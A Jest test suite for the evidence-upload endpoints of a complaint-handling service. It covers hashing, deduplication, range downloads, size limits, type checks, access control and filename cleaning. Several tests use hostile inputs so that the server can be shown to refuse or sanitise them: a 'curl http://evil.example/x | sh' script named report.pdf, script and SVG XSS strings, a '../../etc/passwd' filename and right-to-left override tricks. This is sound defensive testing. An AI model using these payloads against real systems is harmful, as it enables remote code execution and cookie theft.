import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { createHash } from 'node:crypto';
import { aComplaint } from '../support/complaint-builder.js';
import { evidenceFiles } from '../support/evidence-files.js';
import { TestDatabase, TestHub } from '../support/hub-harness.js';
import { MinioObjectStore } from '../../src/storage/minio-object-store.js';
import { TEST_ENV } from '../support/test-infrastructure.js';

const sha256 = (bytes: Buffer): string => createHash('sha256').update(bytes).digest('hex');

describe('evidence', () => {
  let hub: TestHub;
  let db: TestDatabase;
  let staff: string;
  let store: MinioObjectStore;

  beforeAll(async () => {
    hub = await TestHub.start({ env: { EVIDENCE_MAX_BYTES: String(50 * 1024 * 1024) } });
    db = TestDatabase.open();
    staff = await hub.token('staff', 'somchai');
    store = new MinioObjectStore({ endpoint: process.env[TEST_ENV.s3Endpoint]!, accessKey: 'S3RVER', secretKey: 'S3RVER', bucket: process.env[TEST_ENV.s3Bucket]!, region: 'us-east-1' });
  });

  afterAll(async () => {
    await hub.stop();
    await db.close();
  });

  async function newComplaint(): Promise<string> {
    const response = await hub.request('POST', '/v1/complaints', { token: staff, json: aComplaint() });
    return response.body.id as string;
  }

  async function upload(complaintId: string, bytes: Buffer | ReadableStream, kind = 'photo', filename = 'หลักฐาน.jpg', headers: Record<string, string> = {}) {
    const response = await fetch(`${hub.baseUrl}/v1/complaints/${complaintId}/evidence?kind=${kind}&filename=${encodeURIComponent(filename)}`, {
      method: 'POST',
      headers: { authorization: `Bearer ${staff}`, 'content-type': 'application/octet-stream', ...headers },
      body: bytes,
      duplex: 'half',
    } as RequestInit);
    const text = await response.text();
    return { status: response.status, body: text ? JSON.parse(text) : undefined };
  }

  async function objectCount(): Promise<number> {
    return Number((await db.query('SELECT count(DISTINCT object_key) AS n FROM evidence_item'))[0].n);
  }

  it('streams files in, hashes them on the way and sniffs their type from the bytes', async () => {
    const complaintId = await newComplaint();
    const files = [
      { bytes: evidenceFiles.jpeg(), kind: 'payment_slip', filename: 'สลิปโอนเงิน.jpg', mediaType: 'image/jpeg' },
      { bytes: evidenceFiles.pdf(), kind: 'police_report', filename: 'ใบแจ้งความ.pdf', mediaType: 'application/pdf' },
      { bytes: evidenceFiles.chatText(), kind: 'chat_log', filename: 'แชท.txt', mediaType: 'text/plain' },
    ];
    for (const file of files) {
      const response = await upload(complaintId, file.bytes, file.kind, file.filename);
      expect(response.status).toBe(201);
      expect(response.body).toMatchObject({ complaintId, kind: file.kind, filename: file.filename, mediaType: file.mediaType, size: file.bytes.length, sha256: sha256(file.bytes) });
      expect(await store.stat(`evidence/sha256/${sha256(file.bytes)}`)).toMatchObject({ size: file.bytes.length });
    }
    const list = await hub.request('GET', `/v1/complaints/${complaintId}/evidence`, { token: staff });
    expect(list.body.evidence.map((item: { filename: string }) => item.filename)).toEqual(files.map((file) => file.filename));
  });

  it('stores an identical file once, but lists it on each complaint', async () => {
    const bytes = evidenceFiles.png();
    const first = await newComplaint();
    const second = await newComplaint();
    expect((await upload(first, bytes)).status).toBe(201);
    expect((await upload(first, bytes)).status).toBe(200);
    expect((await upload(second, bytes)).status).toBe(201);
    const rows = await db.query('SELECT complaint_id, object_key FROM evidence_item WHERE sha256 = $1', [sha256(bytes)]);
    expect(rows).toHaveLength(2);
    expect(new Set(rows.map((row: { object_key: string }) => row.object_key)).size).toBe(1);
  });

  it('downloads the file whole or by range, with its SHA-256', async () => {
    const complaintId = await newComplaint();
    const bytes = evidenceFiles.jpeg();
    const item = (await upload(complaintId, bytes)).body;
    const whole = await fetch(`${hub.baseUrl}/v1/complaints/${complaintId}/evidence/${item.id}/content`, { headers: { authorization: `Bearer ${staff}` } });
    expect(whole.status).toBe(200);
    expect(whole.headers.get('content-type')).toBe('image/jpeg');
    expect(whole.headers.get('x-content-sha256')).toBe(sha256(bytes));
    expect(whole.headers.get('repr-digest')).toBe(`sha-256=:${createHash('sha256').update(bytes).digest('base64')}:`);
    expect(Buffer.from(await whole.arrayBuffer())).toEqual(bytes);
    const part = await fetch(`${hub.baseUrl}/v1/complaints/${complaintId}/evidence/${item.id}/content`, { headers: { authorization: `Bearer ${staff}`, range: 'bytes=10-19' } });
    expect(part.status).toBe(206);
    expect(part.headers.get('content-range')).toBe(`bytes 10-19/${bytes.length}`);
    expect(Buffer.from(await part.arrayBuffer())).toEqual(bytes.subarray(10, 20));
    const outside = await fetch(`${hub.baseUrl}/v1/complaints/${complaintId}/evidence/${item.id}/content`, { headers: { authorization: `Bearer ${staff}`, range: `bytes=${bytes.length + 5}-` } });
    expect(outside.status).toBe(416);
  });

  it('refuses a 60 MB upload with 413 and leaves no object and no row (declared length)', async () => {
    const complaintId = await newComplaint();
    const before = await objectCount();
    const response = await upload(complaintId, Buffer.alloc(60 * 1024 * 1024, 0x41));
    expect(response.status).toBe(413);
    expect(response.body.code).toBe('EVIDENCE_TOO_LARGE');
    expect(await objectCount()).toBe(before);
    expect(await db.query('SELECT id FROM evidence_item WHERE complaint_id = $1', [complaintId])).toEqual([]);
  });

  it('refuses a 60 MB streamed upload of unknown length with 413 mid-stream, leaving nothing', async () => {
    const complaintId = await newComplaint();
    const chunk = Buffer.alloc(1024 * 1024, 0x42);
    let sent = 0;
    const body = new ReadableStream({
      pull(controller) {
        if (sent >= 60) return controller.close();
        sent++;
        controller.enqueue(chunk);
      },
    });
    const response = await upload(complaintId, body);
    expect(response.status).toBe(413);
    expect(await db.query('SELECT id FROM evidence_item WHERE complaint_id = $1', [complaintId])).toEqual([]);
    expect(await store.stat(`evidence/sha256/${createHash('sha256').update(Buffer.concat(Array(60).fill(chunk))).digest('hex')}`)).toBeUndefined();
  });

  it('refuses an executable renamed .jpg (415) and stores nothing', async () => {
    const complaintId = await newComplaint();
    const bytes = evidenceFiles.executable();
    const response = await upload(complaintId, bytes, 'photo', 'รูปสินค้า.jpg');
    expect(response.status).toBe(415);
    expect(response.body).toMatchObject({ code: 'EVIDENCE_TYPE_NOT_ALLOWED', detected: 'application/x-msdownload' });
    expect(await store.stat(`evidence/sha256/${sha256(bytes)}`)).toBeUndefined();
    expect(await db.query('SELECT id FROM evidence_item WHERE complaint_id = $1', [complaintId])).toEqual([]);
  });

  it('refuses an empty file, an unknown kind and a filename with a slash (4xx)', async () => {
    const complaintId = await newComplaint();
    expect((await upload(complaintId, Buffer.alloc(0))).status).toBe(422);
    expect((await upload(complaintId, evidenceFiles.jpeg(), 'selfie')).status).toBe(422);
    expect((await upload(complaintId, evidenceFiles.jpeg(), 'photo', '../../etc/passwd')).status).toBe(422);
    expect((await upload(complaintId, evidenceFiles.jpeg(), 'photo', 'x.jpg', { 'content-type': 'image/jpeg' })).status).toBe(415);
  });

  it('deletes a file before dispatch, and its object when no complaint uses it', async () => {
    const complaintId = await newComplaint();
    const bytes = evidenceFiles.png();
    const item = (await upload(complaintId, bytes)).body;
    const response = await hub.request('DELETE', `/v1/complaints/${complaintId}/evidence/${item.id}`, { token: staff });
    expect(response.status).toBe(204);
    expect(await store.stat(`evidence/sha256/${sha256(bytes)}`)).toBeUndefined();
    expect((await hub.request('GET', `/v1/complaints/${complaintId}/evidence/${item.id}`, { token: staff })).status).toBe(404);
  });

  it('keeps evidence out of reach of partners and of other complaints', async () => {
    const complaintId = await newComplaint();
    const other = await newComplaint();
    const item = (await upload(complaintId, evidenceFiles.jpeg())).body;
    expect((await hub.request('GET', `/v1/complaints/${other}/evidence/${item.id}/content`, { token: staff })).status).toBe(404);
    const partner = await hub.token('partner', 'x', { partnerId: 'ocpb' });
    expect((await hub.request('GET', `/v1/complaints/${complaintId}/evidence/${item.id}/content`, { token: partner })).status).toBe(403);
  });
});

describe('evidence whose name and content disagree', () => {
  let hub: TestHub;
  let db: TestDatabase;
  let staff: string;

  beforeAll(async () => {
    hub = await TestHub.start();
    db = TestDatabase.open();
    staff = await hub.token('staff', 'somchai');
  });

  afterAll(async () => {
    await hub.stop();
    await db.close();
  });

  async function uploadAs(filename: string, bytes: Buffer): Promise<{ status: number; body: any }> {
    const complaintId = (await hub.request('POST', '/v1/complaints', { token: staff, json: aComplaint() })).body.id as string;
    const response = await fetch(`${hub.baseUrl}/v1/complaints/${complaintId}/evidence?kind=other&filename=${encodeURIComponent(filename)}`, {
      method: 'POST', headers: { authorization: `Bearer ${staff}`, 'content-type': 'application/octet-stream' }, body: bytes,
    });
    return { status: response.status, body: JSON.parse(await response.text()) };
  }

  it('refuses a shell script named report.pdf, and HTML or SVG under any name, and stores nothing', async () => {
    const before = Number((await db.query('SELECT count(*) AS n FROM evidence_item'))[0].n);
    const script = await uploadAs('report.pdf', Buffer.from('#!/bin/sh\ncurl http://evil.example/x | sh\n'));
    expect(script).toMatchObject({ status: 415, body: { code: 'EVIDENCE_TYPE_MISMATCH', detected: 'text/plain', declared: 'application/pdf' } });
    for (const [name, markup] of [
      ['chat.txt', '<!DOCTYPE html><html><body><script>fetch("/v1/partners")</script></body></html>'],
      ['screenshot.png', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><rect/></svg>'],
      ['notes', 'see <script>alert(document.cookie)</script>'],
    ] as const) {
      const response = await uploadAs(name, Buffer.from(markup));
      expect({ name, status: response.status, code: response.body.code }).toEqual({ name, status: 415, code: 'EVIDENCE_TYPE_NOT_ALLOWED' });
    }
    expect(Number((await db.query('SELECT count(*) AS n FROM evidence_item'))[0].n)).toBe(before);
  });

  it('stores names without direction overrides, invisible characters or dot-only names', async () => {
    const rlo = await uploadAs('slip\u202Egpj.pdf', evidenceFiles.pdf());
    expect(rlo).toMatchObject({ status: 201, body: { filename: 'slipgpj.pdf' } });
    expect((await uploadAs('..', evidenceFiles.jpeg())).body.filename).toBe('evidence');
    expect((await uploadAs('.', evidenceFiles.jpeg())).body.filename).toBe('evidence');
    expect((await uploadAs('\u200bแชท\u2066.txt', evidenceFiles.chatText())).body.filename).toBe('แชท.txt');
  });
});
